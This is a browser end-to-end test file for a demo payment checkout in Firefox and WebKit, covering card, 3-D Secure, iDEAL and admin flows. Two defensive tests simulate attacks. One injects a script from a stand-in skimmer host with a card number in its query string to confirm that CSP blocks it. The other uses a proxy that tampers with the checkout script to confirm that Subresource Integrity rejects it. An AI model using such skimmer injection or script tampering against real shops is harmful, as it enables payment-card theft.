/**
 * The demo's checkout in Firefox and WebKit, as a shopper goes through it: a standard
 * card, a 3-D Secure challenge approved and refused, the iDEAL round trip, and the page refusing a
 * script altered on the way (Subresource Integrity), the alteration made by a proxy between the
 * browser and the shop, as an attacker on the network would.
 */
import { createServer, request, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findTestCard, type TestCard } from '@card-jwe/testkit/test-cards'
import { messages as FLOW_EN } from '@card-jwe/checkout/locales/en'
import { join } from 'node:path'
import { SCREENSHOT_DIR, startDemoStack, type DemoStack } from './demo-stack.js'
import { launchShopper, openShopperCheckout, typeTestCard, type ShopperBrowser } from './shopper-browsers.js'
import { paidWhileOrderTableLocked } from './order-table-locked.js'
import { wantedEngines } from '../support/browsers.js'

/** A proxy to `target` that appends a skimmer's line to the card-jwe script. */
async function alteringProxy(target: string): Promise<{ url: string; altered: string[]; server: Server }> {
  const altered: string[] = []
  const server = createServer((req, res) => {
    const upstream = request(
      new URL(req.url!, target),
      { method: req.method, headers: { ...req.headers, host: new URL(target).host } },
      (answer) => {
        const chunks: Buffer[] = []
        answer.on('data', (chunk: Buffer) => chunks.push(chunk))
        answer.on('end', () => {
          let body = Buffer.concat(chunks)
          if (/^\/assets\/card-jwe-.*\.js$/.test(req.url!)) {
            body = Buffer.concat([body, Buffer.from('\n;globalThis.skimmed = true\n')])
            altered.push(req.url!)
          }
          const headers = { ...answer.headers, 'content-length': String(body.length) }
          delete headers['transfer-encoding']
          res.writeHead(answer.statusCode!, headers).end(body)
        })
      },
    )
    req.pipe(upstream)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, altered, server }
}

/** How long after the bank page's load the test watches for the browser's icon request (an observation window, not a speed check). */
const FAVICON_SETTLE_MS = 2_000

const engines = (['firefox', 'webkit'] as const).filter((engine) => wantedEngines().has(engine))

describe.each(engines)('the demo checkout in %s', (engine) => {
  let stack: DemoStack
  let shopper: ShopperBrowser

  beforeAll(async () => {
    stack = await startDemoStack({ launchChromium: false })
    shopper = await launchShopper(engine)
  }, 60_000)
  afterAll(async () => {
    await shopper?.close()
    await stack?.close()
  })

  const openCheckout = () => openShopperCheckout(shopper, stack.shop.url)

  const typeCard = (card: TestCard) => typeTestCard(shopper, card)

  async function resultCode(): Promise<string> {
    await shopper.waitFor('#result')
    return shopper.text('#result-code')
  }

  it('pays with a standard test card: formatted as typed, Authorised, fields cleared', async () => {
    await openCheckout()
    const card = findTestCard({ brand: 'mastercard', threeDSecure: 'none', outcome: 'authorised' })
    await typeCard(card)
    expect(await shopper.value('#card-number')).toBe(card.number.replace(/(\d{4})(?=\d)/g, '$1 '))
    expect(await shopper.text('#card-brand')).toBe('Mastercard')
    await shopper.click('#pay')
    expect(await resultCode()).toBe('Authorised')
    expect(await shopper.value('#card-number')).toBe('')
  })

  it.each([
    ['password', 'Authorised'],
    ['wrong', 'Refused'],
  ])('3-D Secure challenge answered "%s": %s', async (answer, code) => {
    await openCheckout()
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
    await shopper.click('#pay')
    await shopper.answerChallenge(answer)
    expect(await resultCode()).toBe(code)
  })

  it('with the ready-made store the admin says the shop is ready, no "Step 1"', async () => {
    await shopper.open(`${stack.shop.url}/admin.html`)
    await shopper.waitFor('#step-done')
    expect(await shopper.text('#setup-summary')).toBe('Ready to take payments (ready-made test store).')
    expect(await shopper.evaluate(() => (document.querySelector('#step-email') as HTMLElement).hidden)).toBe(true)
  })

  it('the sandbox bank page loads without a CSP error (Firefox asks for /favicon.ico unless the page names an icon)', async () => {
    await openCheckout()
    await shopper.click('#pay-ideal')
    await shopper.waitFor('form[action$="/approve"] button')
    const firstLoad = await shopper.evaluate(() => performance.timeOrigin)
    // Re-opened, so WebKit's listener is there from the load on; the icon request follows the load.
    await shopper.open(await shopper.url())
    await shopper.waitFor('form[action$="/approve"] button')
    // A new document: a driver that kept the first one would leave its icon request unwatched.
    expect(await shopper.evaluate(() => performance.timeOrigin)).not.toBe(firstLoad)
    await new Promise((resolve) => setTimeout(resolve, FAVICON_SETTLE_MS))
    expect(await shopper.cspViolations()).toEqual([])
  })

  it('a cancel at the bank reads as a cancel; "Try another card or method" pays the same order by card', async () => {
    await openCheckout()
    await shopper.click('#pay-ideal')
    await shopper.waitFor('form[action$="/cancel"] button')
    await shopper.click('form[action$="/cancel"] button')
    await shopper.waitFor('#result')
    expect(await shopper.text('#result-title')).toBe(FLOW_EN.notFinished)
    const order = await shopper.text('#result-order')
    await shopper.click('#retry-payment')
    await shopper.waitFor('#card-number')
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'none', outcome: 'authorised' }))
    await shopper.click('#pay')
    await shopper.waitFor('#result')
    expect(await shopper.text('#result-code')).toBe('Authorised')
    expect(await shopper.text('#result-order')).toBe(order)
  })

  it('one payment attempt at a time: "pay with iDEAL" is disabled while a card payment and its challenge run', async () => {
    await openCheckout()
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
    await shopper.click('#pay')
    await shopper.waitFor('iframe[name^="threeds-challenge"]')
    expect(
      await shopper.evaluate(() => [
        (document.querySelector('#pay-ideal') as HTMLButtonElement).disabled,
        (document.querySelector('#pay') as HTMLButtonElement).disabled,
      ]),
    ).toEqual([true, true])
    await shopper.answerChallenge('password')
    expect(await resultCode()).toBe('Authorised')
  })

  it('Back from the bank page, the page recovers and a card pays the same order', async () => {
    await openCheckout()
    const summary = await shopper.text('#order-summary')
    await shopper.click('#pay-ideal')
    await shopper.waitFor('form[action$="/approve"] button')
    await shopper.back()
    await shopper.waitFor('#card-number')
    expect(await shopper.text('#order-summary')).toBe(summary)
    expect(await shopper.text('#status')).not.toBe(FLOW_EN.redirecting)
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'none', outcome: 'authorised' }))
    await shopper.click('#pay')
    expect(await resultCode()).toBe('Authorised')
    const reference = /^Order (\S+):/.exec(summary)![1]!
    expect((await shopper.text('#result-order')).split(' ')[0]).toBe(reference)
  })

  it('the admin offers what the order state can take, in words, and follows a capture at once', async () => {
    await openCheckout()
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'none', outcome: 'authorised' }))
    await shopper.click('#pay')
    await shopper.waitFor('#result')
    const reference = (await shopper.text('#result-order')).split(' ')[0]!
    await shopper.open(`${stack.shop.url}/admin.html`)
    await shopper.waitFor('body[data-ready="true"]', { attached: true })
    const read = async () => {
      const rows = await shopper.evaluate(() =>
        [...document.querySelectorAll('#orders tr')].map(
          (tr) =>
            [
              tr.children[0]!.textContent,
              tr.children[2]!.textContent,
              [...tr.querySelectorAll('button')].map((b) => b.textContent),
            ] as const,
        ),
      )
      const found = rows.find(([ref]) => ref === reference)!
      return [found[1], found[2]]
    }
    expect(await read()).toEqual(['Authorised', ['Capture', 'Cancel']])
    await shopper.click(`button[aria-label="Capture ${reference}"]`)
    await shopper.waitFor(`tr td[data-state="captured"]`)
    expect(await read()).toEqual(['Captured', ['Refund', 'Refund line']])
  })

  it('the admin shows an order change the order table refused as a problem; Retry delivers it and clears it', async () => {
    const { order, answer } = await paidWhileOrderTableLocked(stack)
    expect(answer).toEqual({ resultCode: 'Authorised' })
    await shopper.open(`${stack.shop.url}/admin.html`)
    await shopper.waitFor('body[data-ready="true"]', { attached: true })
    const problems = () =>
      shopper.evaluate(() => [...document.querySelectorAll('#problems tr')].map((tr) => [...tr.children].map((td) => td.textContent)))
    const [problem] = await problems()
    expect(problem?.slice(1, 4)).toEqual([order.reference, 'The order could not be updated (to authorised)', '1'])
    await shopper.click(`button[aria-label="Retry ${problem![0]}"]`)
    await shopper.waitFor('#no-problems')
    expect(await problems()).toEqual([])
    await shopper.waitFor(`tr[data-order-id="${order.id}"] td[data-state="authorised"]`)
  })

  it('focus on the status after Pay, then in the challenge frame, shown in view', async () => {
    await openCheckout()
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
    await shopper.click('#pay')
    await shopper.waitFor('iframe[name^="threeds-challenge"]')
    for (let waited = 0; waited < 5_000 && (await shopper.evaluate(() => document.activeElement?.tagName)) !== 'IFRAME'; waited += 100) {
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    const seen = await shopper.evaluate(() => {
      const rect = document.querySelector('#threeds iframe')!.getBoundingClientRect()
      return { focused: document.activeElement?.tagName, top: rect.top, viewport: innerHeight }
    })
    expect(seen.focused).toBe('IFRAME')
    expect(seen.top).toBeGreaterThanOrEqual(0)
    expect(seen.top).toBeLessThan(seen.viewport)
    await shopper.answerChallenge('password')
    expect(await resultCode()).toBe('Authorised')
    expect(await shopper.evaluate(() => document.activeElement?.id)).toBe('result-title')
  })

  it('"Cancel this payment" beside a challenge ends it at once; the order then pays by card', async () => {
    await openCheckout()
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
    await shopper.click('#pay')
    await shopper.waitFor('#cancel-challenge')
    await shopper.click('#cancel-challenge')
    await shopper.waitFor('#result')
    expect(await shopper.text('#result-code')).toBe('ERR_ABORTED')
    expect(await shopper.text('#result-title')).toBe(FLOW_EN.notFinished)
    expect(await shopper.evaluate(() => document.querySelector('#threeds iframe'))).toBeNull()
    const order = await shopper.text('#result-order')
    await shopper.click('#retry-payment')
    await shopper.waitFor('#card-number')
    await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'none', outcome: 'authorised' }))
    await shopper.click('#pay')
    expect(await resultCode()).toBe('Authorised')
    expect(await shopper.text('#result-order')).toBe(order)
  })

  it('at a phone width (390 px; WebKit 447 px) the checkout and the challenge fit, with no sideways scroll', async () => {
    await shopper.setSize(390, 844)
    try {
      await openCheckout()
      const fits = () =>
        shopper.evaluate(() => {
          const page = document.documentElement
          const cvc = document.querySelector('#card-cvc')!.getBoundingClientRect()
          return { width: page.clientWidth, sideways: page.scrollWidth > page.clientWidth, cvcInside: cvc.right <= page.clientWidth }
        })
      const checkout = await fits()
      // WebKitGTK's MiniBrowser window stops at 447 px wide: still a phone's layout (under 480 px).
      expect(checkout.width).toBeLessThanOrEqual(480)
      expect(checkout).toMatchObject({ sideways: false, cvcInside: true })
      await shopper.screenshot(join(SCREENSHOT_DIR, `${engine}-phone-checkout-${checkout.width}.png`))
      await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
      await shopper.click('#pay')
      await shopper.waitFor('iframe[name^="threeds-challenge"]')
      expect((await fits()).sideways).toBe(false)
      await shopper.screenshot(join(SCREENSHOT_DIR, `${engine}-phone-challenge-${checkout.width}.png`))
      await shopper.answerChallenge('password')
      expect(await resultCode()).toBe('Authorised')
    } finally {
      await shopper.setSize(1280, 800)
    }
  })

  it('follows iDEAL to the bank and back: Authorised, the return parameters gone from the address', async () => {
    await openCheckout()
    await shopper.click('#pay-ideal')
    await shopper.waitFor('form[action$="/approve"] button')
    expect(await shopper.url()).toMatch(new RegExp(`^${stack.sandbox.baseUrl}/redirect/`))
    await shopper.click('form[action$="/approve"] button')
    expect(await resultCode()).toBe('Authorised')
    expect(new URL(await shopper.url()).search).toBe('')
  })

  const blockedScriptReport =
    'reports a blocked script to the shop, whose log holds the directive and origin only (WebKit posts it with Origin: null)'
  it(blockedScriptReport, async () => {
    await shopper.open(stack.shop.url)
    await shopper.waitFor('body[data-ready="true"]', { attached: true })
    const before = stack.shopLog.filter((line) => line.startsWith('CSP violation')).length
    // What an injected skimmer would do: load its script, the card in its query string.
    await shopper.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://skimmer.example/collect.js?pan=5555444433331111'
      document.head.append(script)
    })
    await expect
      .poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation')).slice(before))
      .toEqual(['CSP violation reported: script-src-elem blocked https://skimmer.example'])
    expect(stack.shopLog.filter((line) => /5555444433331111|collect\.js|pan=/.test(line))).toEqual([])
  })

  it('refuses the card-jwe script altered on the way (Subresource Integrity): nothing runs, the checkout never starts', async () => {
    const proxy = await alteringProxy(stack.shop.url)
    try {
      await shopper.open(proxy.url)
      await shopper.waitFor('#start-checkout', { attached: true })
      expect(proxy.altered).toHaveLength(1)
      // The page's own load has finished, with the altered script fetched and refused.
      await expect.poll(() => shopper.evaluate(() => document.readyState)).toBe('complete')
      expect(await shopper.evaluate(() => (globalThis as { skimmed?: boolean }).skimmed === true)).toBe(false)
      expect(await shopper.evaluate(() => document.body.getAttribute('data-ready'))).toBeNull()
    } finally {
      proxy.server.close()
      proxy.server.closeAllConnections()
    }
  })
})
